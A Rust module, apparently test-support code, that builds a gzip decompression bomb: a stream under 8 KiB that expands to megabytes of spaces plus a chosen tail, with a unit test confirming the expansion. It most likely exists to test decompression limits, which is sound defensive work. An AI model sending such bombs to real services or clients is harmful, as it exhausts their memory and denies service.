//! A gzip body far smaller than what it decodes to, without ever making the latter.

use std::io::{self, Write};

use bytes::Bytes;
use flate2::write::DeflateEncoder;
use flate2::{Compression, Crc};

const MIB: usize = 1024 * 1024;
const HEADER: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];

/// The parts of a gzip stream that decodes to `mebibytes` MiB of white space and then `tail`: each part is sent once,
/// the middle one `mebibytes` times.
pub(super) struct Bomb {
    pub(super) mebibytes: u64,
    pub(super) mebibyte: Bytes,
    pub(super) end: Bytes,
}

impl Bomb {
    pub(super) const fn header() -> Bytes {
        Bytes::from_static(&HEADER)
    }

    pub(super) fn new(bytes: u64, tail: &[u8]) -> io::Result<Self> {
        let mebibytes = bytes.div_ceil(MIB as u64);
        let spaces = vec![b' '; MIB];

        let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
        encoder.write_all(&spaces)?;
        // A sync flush ends the block on a byte border, so the block can be repeated.
        encoder.flush()?;
        let mebibyte = Bytes::from(encoder.get_ref().clone());

        let mut encoder = DeflateEncoder::new(Vec::new(), Compression::best());
        encoder.write_all(tail)?;
        let mut end = encoder.finish()?;

        let mut one = Crc::new();
        one.update(&spaces);
        let mut whole = Crc::new();
        (0..mebibytes).for_each(|_| whole.combine(&one));
        let mut last = Crc::new();
        last.update(tail);
        whole.combine(&last);
        end.extend(whole.sum().to_le_bytes());
        end.extend(whole.amount().to_le_bytes());
        Ok(Self { mebibytes, mebibyte, end: end.into() })
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::io::Read;

    #[test]
    fn the_bomb_is_valid_gzip() {
        let bomb = Bomb::new(3 * MIB as u64 - 5, b"{}").unwrap();
        let mut stream = Bomb::header().to_vec();
        (0..bomb.mebibytes).for_each(|_| stream.extend(&bomb.mebibyte));
        stream.extend(&bomb.end);
        assert!(stream.len() < 8 * 1024, "{}", stream.len());
        let mut text = String::new();
        flate2::read::GzDecoder::new(&stream[..]).read_to_string(&mut text).unwrap();
        assert_eq!((text.len(), text.trim()), (3 * MIB + 2, "{}"));
    }
}
